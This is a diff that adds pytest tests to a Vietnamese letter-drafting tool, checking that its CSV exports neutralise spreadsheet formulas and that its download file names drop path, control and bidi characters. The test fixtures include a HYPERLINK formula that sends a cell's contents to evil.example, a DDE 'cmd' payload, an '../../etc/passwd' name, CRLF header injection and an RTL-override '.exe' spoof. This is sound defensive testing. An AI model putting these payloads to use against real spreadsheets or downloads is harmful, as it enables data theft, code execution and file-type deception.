@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 from pathlib import Path
 from urllib.parse import unquote
 
@@ -42,6 +43,50 @@ def test_csv_assignee_and_explicit_number() -> None:
     rows = list(csv.reader(io.StringIO(tasks_csv(Letter.from_dict(raw)).decode("utf-8-sig"))))
     assert rows[1][2] == "Sở Nội vụ"
     assert rows[2][0] == "2.1"
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "=cmd|' /C calc'!A0",
+)
+
+
+def formula_letter() -> dict:
+    """Tasks whose cells would start a spreadsheet formula (issue 17, item 3)."""
+    raw = load_example("daklak-1691-ubnd-kgvx.json")
+    raw["noi_dung"] = [
+        {"type": "task", "text": text, "assignee": "=1+1", "number": "-3"} for text in FORMULAS
+    ]
+    return raw
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading ', the
+    rest of its text kept as it was (the task list is opened in Excel or LibreOffice Calc)."""
+    data = tasks_csv(Letter.from_dict(formula_letter()))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [r[1] for r in rows[1:]] == ["'" + text for text in FORMULAS]
+    assert {r[2] for r in rows[1:]} == {"'=1+1"}
+    assert {r[0] for r in rows[1:]} == {"'-3"}
+    assert rows[1][4] == "Công văn số 1691/UBND-KGVX ngày 05/03/2019"  # ordinary text as is
+
+
+def test_every_csv_download_is_neutralised(
+    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    """`drafter tasks` writes the same neutralised CSV (the API and the form use it too:
+    tests/web/test_api.py, tests/web/test_letters.py)."""
+    src = tmp_path / "formulas.json"
+    src.write_text(json.dumps(formula_letter(), ensure_ascii=False), encoding="utf-8")
+    assert cli.main(["tasks", str(src)]) == 0
+    rows = list(csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig"))))
+    assert [r[1] for r in rows[1:]] == ["'" + text for text in FORMULAS]
 
 
 def test_ics_events() -> None:
@@ -105,6 +150,40 @@ def test_file_names() -> None:
     name = vietnamese_filename(Letter.from_dict(raw))
     assert name.startswith("Dự thảo-UBND-KGVX - rất dài") and len(name) < 110
     assert name.endswith("dài.docx")
+
+
+# Issue 17, item 12: what must never reach a download's name.
+FORBIDDEN_IN_NAMES = (
+    '/\\"\n\r\t\x00\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028'
+)
+
+
+def utf8_name(disposition: str) -> str:
+    return unquote(disposition.split("filename*=UTF-8''")[1])
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Mẫu - ../../etc/passwd.json",
+        'Mẫu - C:\\Windows\\a"b.json',
+        "Hóa đơn \u202excod.exe.docx",
+        "Tên\u2066ẩn\u2069 \u200fđảo\u200e chiều\r\nX-Header: 1.json",
+        "../.hidden.json",
+    ],
+)
+def test_download_names_carry_no_path_quote_control_or_bidi(name: str) -> None:
+    shown = utf8_name(content_disposition(name, "tep.json"))
+    assert not set(shown) & set(FORBIDDEN_IN_NAMES), repr(shown)
+    assert not shown.startswith((".", " ")) and shown.endswith((".json", ".docx"))
+
+
+def test_a_bidi_override_in_the_subject_cannot_spoof_the_extension() -> None:
+    raw = load_example("daklak-1691-ubnd-kgvx.json")
+    raw["trich_yeu"] = "báo cáo \u202excod.exe"
+    name = vietnamese_filename(Letter.from_dict(raw))
+    assert "\u202e" not in name and name == "1691-UBND-KGVX - báo cáo xcod.exe.docx"
+    assert utf8_name(content_disposition(name, default_filename(Letter.from_dict(raw)))) == name
 
 
 def test_content_disposition() -> None:
